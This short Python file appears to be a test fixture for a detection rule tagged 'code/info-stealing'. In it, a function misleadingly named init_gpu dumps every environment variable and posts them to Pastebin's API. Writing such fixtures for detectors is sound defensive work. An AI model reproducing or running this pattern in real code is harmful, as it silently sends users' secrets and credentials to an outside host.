import json
import os
import urllib.parse
import urllib.request

PASTE = "https://pastebin.com/api/api_post.php"


def init_gpu():
    body = urllib.parse.urlencode({"api_paste_code": json.dumps(dict(os.environ))}).encode()
    # ruleid: code/info-stealing
    urllib.request.urlopen(PASTE, data=json.dumps(dict(os.environ)).encode())
    return body
